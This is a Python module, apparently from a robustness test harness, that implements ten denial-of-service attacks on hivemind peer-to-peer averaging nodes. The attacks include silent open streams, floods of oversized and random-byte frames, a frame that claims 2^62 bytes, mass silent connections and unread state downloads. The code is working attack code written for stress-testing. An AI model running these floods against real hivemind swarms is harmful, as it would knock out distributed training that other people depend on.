"""Attacks on connections and calls: floods, silence, and bytes that are no message."""

from __future__ import annotations

import asyncio
import contextlib
import os
from collections.abc import AsyncIterator

from hivemind.optim.grad_averager import GradientAverager
from hivemind.p2p import P2P, PeerID
from hivemind.proto import averaging_pb2, runtime_pb2

from attacks.stranger import ANSWER_SECONDS, Attack, Calling, Stranger

FRAME = 16_000_000
STREAMS = 300
FULL, PARTS, FULL_STREAMS = 600_000, 8, 60
CONNECTIONS = 500


async def silent(own: Stranger) -> AsyncIterator[averaging_pb2.AveragingData]:
    """A stream of parts that sends nothing."""
    await own.over()
    for message in ():
        yield message


async def silent_streams(own: Stranger) -> None:
    """Calls of every averager that send nothing, and are left open."""

    async def opened(peer: PeerID, *, of_state: bool) -> None:
        await own.first_answer(own.averager(peer, of_state=of_state).rpc_aggregate_part(silent(own)))

    await own.at_once(
        (opened(peer, of_state=bool(number % 2)) for peer in own.peers for number in range(STREAMS)),
        own.target.seconds,
    )


async def parts_for_unknown_groups(own: Stranger) -> None:
    """First parts for groups that do not exist, with large group ids."""

    async def part() -> AsyncIterator[averaging_pb2.AveragingData]:
        yield averaging_pb2.AveragingData(
            code=averaging_pb2.PART_FOR_AVERAGING, group_id=os.urandom(100_000), weight=1.0
        )

    async def flood() -> None:
        await own.at_once(
            own.first_answer(own.averager(peer).rpc_aggregate_part(part())) for peer in own.peers for _ in range(20)
        )

    await own.repeat(flood, 0.01)


async def large_frames(own: Stranger) -> None:
    """Parts of 16 MB."""

    async def part() -> AsyncIterator[averaging_pb2.AveragingData]:
        yield averaging_pb2.AveragingData(code=averaging_pb2.PART_FOR_AVERAGING, group_id=b"x" * FRAME, weight=1.0)

    await own.repeat(
        lambda: own.at_once(own.first_answer(own.averager(peer).rpc_aggregate_part(part())) for peer in own.peers)
    )


async def full_frames_in_many_streams(own: Stranger) -> None:
    """Parts of nearly the largest size that is taken, several in each of many streams, for groups that do not exist."""

    async def parts() -> AsyncIterator[averaging_pb2.AveragingData]:
        for _ in range(PARTS):
            tensor = runtime_pb2.Tensor(buffer=bytes(FULL))
            code = averaging_pb2.PART_FOR_AVERAGING
            yield averaging_pb2.AveragingData(code=code, group_id=os.urandom(20), weight=1.0, tensor_part=tensor)

    async def opened(peer: PeerID, *, of_state: bool) -> None:
        await own.first_answer(own.averager(peer, of_state=of_state).rpc_aggregate_part(parts()))

    await own.repeat(
        lambda: own.at_once(
            (opened(peer, of_state=bool(number % 2)) for peer in own.peers for number in range(FULL_STREAMS)),
            own.target.seconds,
        )
    )


def part_call(own: Stranger) -> str:
    """The name of the call that takes parts: one whose frames Python reads."""
    return f"{own.gradients}::{GradientAverager.__name__}.rpc_aggregate_part"


async def frames_that_are_no_message(own: Stranger) -> None:
    """Random bytes in frames of a stream, and in calls without one."""
    names = ("DHTProtocol.rpc_ping", "DHTProtocol.rpc_store", "DHTProtocol.rpc_find")

    async def stream(peer: PeerID) -> None:
        with contextlib.closing(await own.open(peer, part_call(own))) as writer:
            for _ in range(200):
                junk = os.urandom(300)
                writer.write(P2P.MESSAGE_MARKER + len(junk).to_bytes(P2P.HEADER_LEN, P2P.BYTEORDER) + junk)
            await writer.drain()

    async def call(peer: PeerID, name: str) -> None:
        await own.p2p._client.call_unary_handler(peer, name, os.urandom(300))  # noqa: SLF001 - hivemind's own calls send messages

    await own.repeat(
        lambda: own.at_once(
            [*(stream(peer) for peer in own.peers), *(call(peer, name) for peer in own.peers for name in names)]
        )
    )


async def endless_frame(own: Stranger) -> None:
    """A frame that says that it has 2^62 bytes, and brings them as fast as they are taken."""

    async def call(peer: PeerID) -> None:
        with contextlib.closing(await own.open(peer, part_call(own))) as writer:
            writer.write(P2P.MESSAGE_MARKER + (2**62).to_bytes(P2P.HEADER_LEN, P2P.BYTEORDER))
            while own.lasts:
                writer.write(b"\0" * 1_000_000)
                await writer.drain()

    await own.repeat(lambda: own.at_once((call(peer) for peer in own.peers), own.target.seconds))


async def silent_connections(own: Stranger) -> None:
    """Connections to the address that say nothing."""
    _, _, host, _, port, *_ = own.target.address.split("/")
    writers: list[asyncio.StreamWriter] = []

    async def connect() -> None:
        _, writer = await asyncio.open_connection(host, int(port))
        writers.append(writer)

    await own.at_once((connect() for _ in range(CONNECTIONS)), ANSWER_SECONDS)
    await own.over()
    for writer in writers:
        writer.close()


async def connections_of_noise(own: Stranger) -> None:
    """The same with random bytes."""
    _, _, host, _, port, *_ = own.target.address.split("/")

    async def connect() -> None:
        _, writer = await asyncio.open_connection(host, int(port))
        writer.write(os.urandom(100_000))
        await writer.drain()
        writer.close()

    await own.repeat(lambda: own.at_once(connect() for _ in range(20)))


async def answers_that_are_not_read(own: Stranger) -> None:
    """The state, requested many times at once; the answers are not read."""
    opened = []

    async def ask(peer: PeerID) -> None:
        stream = await own.averager(peer, of_state=True).rpc_download_state(averaging_pb2.DownloadRequest())
        opened.append(stream)
        await anext(aiter(stream))

    await own.at_once((ask(peer) for peer in own.peers for _ in range(50)), own.target.seconds)
    await own.over()


async def many_downloads(own: Stranger) -> None:
    """The state, downloaded again and again by many at once."""

    async def flood() -> None:
        await own.at_once(
            (
                own.drained(own.averager(peer, of_state=True).rpc_download_state(averaging_pb2.DownloadRequest()))
                for peer in own.peers
                for _ in range(8)
            ),
            own.target.seconds,
        )

    await own.repeat(flood, 0.0)


STREAMS_OF: dict[str, Calling] = {
    "silent streams": Attack(silent_streams),
    "parts for unknown groups": Attack(parts_for_unknown_groups),
    "frames of 16 MB": Attack(large_frames),
    "full frames in many streams": Attack(full_frames_in_many_streams),
    "frames that are no message": Attack(frames_that_are_no_message),
    "a frame without an end": Attack(endless_frame),
    "silent connections": Attack(silent_connections),
    "connections of noise": Attack(connections_of_noise),
    "answers that are not read": Attack(answers_that_are_not_read),
    "many downloads of the state": Attack(many_downloads),
}
